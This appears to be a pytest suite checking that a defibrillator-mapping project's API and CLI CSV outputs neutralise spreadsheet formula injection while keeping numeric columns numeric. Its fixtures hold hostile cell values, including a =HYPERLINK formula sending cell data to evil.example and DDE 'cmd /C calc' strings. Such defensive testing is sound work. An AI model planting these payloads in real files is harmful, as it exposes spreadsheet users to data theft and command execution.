"""No CSV the project writes carries a formula (OWASP "CSV injection"), on SpatiaLite and PostGIS.

Names, addresses and phones typed by entities reach the API's CSV downloads and every CSV the
CLI writes. The tiny layers get hostile values (``=HYPERLINK(...)``, ``+34…``, ``@SUM``, ``-…``,
a leading tab or carriage return); every CSV answer must show them with a leading ``'`` and keep
numeric columns (negative longitudes) as numbers.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner
from weeks import ORDINARY, clock_env

from api.app import create_app
from geo.city import CityProfile
from geo.cli import app as cli_app
from geo.core.layers import LAYERS
from geo.core.outputs import FORMULA_STARTS, csv_safe, to_csv
from geo.io.export import PUBLISHED_LAYERS
from geo.io.files import read_layers
from geo.io.store import Store
from geo.settings import Settings

#: Hostile text by layer, record id and field (each starts as a spreadsheet formula would).
HOSTILE: dict[str, dict[str, dict[str, str]]] = {
    "defibrillators": {
        "dea-1": {
            "name": '=HYPERLINK("http://evil.example/?x="&A1,"DEA")',
            "phone": "+34 979 000 000",
            "location_text": "@SUM(1+1)*cmd|' /C calc'!A0",
        },
        "dea-2": {"name": "-2+3+cmd|' /C calc'!A0", "address": "\t=1+1"},
        "dea-3": {"name": "\r=1+1 DEA", "address": "=1+1"},
    },
    "entities": {"ent-1": {"name": "=1+1 Residencia", "address": "@calle"}},
    "ceas": {"ceas-oeste": {"name": "+Oeste", "centre_address": "-1 Calle A"}},
    "cohousing": {"coh-1": {"name": "=cmd|' /C calc'!A0"}},
    "population": {},
}
ALL_HOSTILE = {value for layer in HOSTILE.values() for fields in layer.values()
               for value in fields.values()}  # fmt: skip


#: Each hostile value as a CSV holds it after the ``'``: line breaks as \n (a lone \r would end
#: the row for a reader).
WRITTEN = {value.replace("\r", "\n"): value for value in ALL_HOSTILE}


def _hostile_dir(tiny_dir: Path) -> Path:
    for layer, records in HOSTILE.items():
        path = tiny_dir / f"{layer}.geojson"
        document = json.loads(path.read_text(encoding="utf-8"))
        for feature in document["features"]:
            feature["properties"].update(records.get(feature["properties"]["id"], {}))
        path.write_text(json.dumps(document, ensure_ascii=False), encoding="utf-8")
    return tiny_dir


@pytest.fixture
def hostile_url(db_url: str, tiny_dir: Path, city: CityProfile) -> str:
    layers = read_layers(_hostile_dir(tiny_dir), city)
    assert layers["defibrillators"].set_index("id").loc["dea-1", "phone"] == "+34 979 000 000"
    with Store.open(db_url) as store:
        store.load(layers)
    return db_url


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _assert_inert(text: str, *, expected: set[str]) -> set[str]:
    """No cell a spreadsheet would run; the hostile values of ``expected`` appear neutralised.
    Returns the neutralised cells found."""
    rows = _rows(text)
    assert rows, text
    seen: set[str] = set()
    width = len(rows[0])
    for row in rows:
        assert len(row) == width and None not in row and None not in row.values(), row
        for column, cell in row.items():
            if cell.startswith(FORMULA_STARTS):
                assert _is_number(cell), (column, cell)  # only numbers (-4.53) start so
            if cell.startswith("'") and cell[1:] in WRITTEN:
                seen.add(WRITTEN[cell[1:]])
    assert expected <= seen, expected - seen
    return seen


def _expected(*layers: str, fields: tuple[str, ...] | None = None) -> set[str]:
    return {
        value
        for layer in layers
        for record in HOSTILE[layer].values()
        for field, value in record.items()
        if fields is None or field in fields
    }


# --- the helper -------------------------------------------------------------------------------


def test_csv_safe_decides_by_column_dtype() -> None:
    table = pd.DataFrame(
        {
            "lon": [-4.53, -4.54, 0.0],
            "count": [-1, 2, 3],
            "flag": [True, False, True],
            "name": ["=1+1", "-resta", "normal"],
            "notes": ["a\r=1+1", "b\r\nc", None],
            "mixed": [-7, "+34 979", None],
            "text": pd.array(["@a", None, "\t=b"], dtype="string"),
        }
    )
    safe = csv_safe(table)
    assert list(safe["lon"]) == [-4.53, -4.54, 0.0] and safe["lon"].dtype == "float64"
    assert list(safe["count"]) == [-1, 2, 3]
    assert list(safe["flag"]) == [True, False, True]
    assert list(safe["name"]) == ["'=1+1", "'-resta", "normal"]
    assert list(safe["mixed"]) == [-7, "'+34 979", None]  # a number in an object column stays
    assert list(safe["text"].astype(object)) == ["'@a", pd.NA, "'\t=b"]
    # A lone carriage return would end the row for a reader: line breaks are written as \n.
    assert list(safe["notes"][:2]) == ["a\n=1+1", "b\nc"] and pd.isna(safe["notes"][2])
    assert list(table["name"]) == ["=1+1", "-resta", "normal"]  # the input is not changed
    text = to_csv(table)
    assert text.split("\n")[1].startswith("-4.53,-1,True,'=1+1,\"a")
    assert len(_rows(text)) == 3


# --- the API's downloads ----------------------------------------------------------------------


@pytest.fixture
def client(hostile_url: str) -> Iterator[TestClient]:
    settings = Settings(database_url=hostile_url, clock_start=ORDINARY, tile_url="")
    with TestClient(create_app(settings)) as test_client:
        yield test_client


@pytest.mark.parametrize("layer", PUBLISHED_LAYERS)
def test_csv_downloads_carry_no_formula(client: TestClient, layer: str) -> None:
    response = client.get(f"/api/downloads/{layer}.csv")
    assert response.status_code == 200, response.text
    _assert_inert(response.content.decode("utf-8-sig"), expected=_expected(layer))
    # Coordinates are still numbers, negative longitudes included.
    rows = _rows(response.content.decode("utf-8-sig"))
    if "lon" in rows[0]:
        assert all(float(row["lon"]) < 0 for row in rows)


def test_geojson_downloads_keep_the_text_as_typed(client: TestClient) -> None:
    """Only CSV is for spreadsheets: JSON keeps the values exactly."""
    document = client.get("/api/downloads/defibrillators.geojson").json()
    names = {f["properties"]["name"] for f in document["features"]}
    assert HOSTILE["defibrillators"]["dea-1"]["name"] in names


# --- the CLI ----------------------------------------------------------------------------------

runner = CliRunner()


def _cli(db_url: str, *args: str) -> str:
    env = {"CARDIOMAPA_DATABASE_URL": db_url, **clock_env(ORDINARY)}
    result = runner.invoke(cli_app, list(args), env=env)
    assert result.exit_code == 0, (args, result.stdout, result.stderr)
    return result.stdout


@pytest.mark.parametrize("layer", [schema.name for schema in LAYERS])
def test_cli_csv_exports_carry_no_formula(hostile_url: str, tmp_path: Path, layer: str) -> None:
    out = tmp_path / f"{layer}.csv"
    staff = ("--all-devices",) if layer == "defibrillators" else ()
    _cli(hostile_url, "export", "--layer", layer, "--out", str(out), *staff)
    text = out.read_text(encoding="utf-8-sig")
    if layer == "population":  # no text typed by people: only check nothing is a formula
        _assert_inert(text, expected=set())
    else:
        _assert_inert(text, expected=_expected(layer))


CLI_CSV: list[tuple[tuple[str, ...], set[str]]] = [
    (("coverage", "--format", "csv"), _expected("ceas", fields=("name",))),
    (("coverage", "--weekly", "--format", "csv"), set()),
    (("outcomes", "--format", "csv", "--by", "zones"), _expected("ceas", fields=("name",))),
    (("outcomes", "--format", "csv", "--by", "devices"), set()),
    (("outcomes", "--format", "csv", "--by", "parameters"), set()),
    (("gaps", "--format", "csv"), set()),
    (("indicators", "--format", "csv"), set()),
]


@pytest.mark.parametrize(
    ("args", "expected"), CLI_CSV, ids=lambda v: " ".join(v) if isinstance(v, tuple) else ""
)
def test_cli_csv_outputs_carry_no_formula(
    hostile_url: str, args: tuple[str, ...], expected: set[str]
) -> None:
    text = _cli(hostile_url, *args)
    _assert_inert(text, expected=expected)
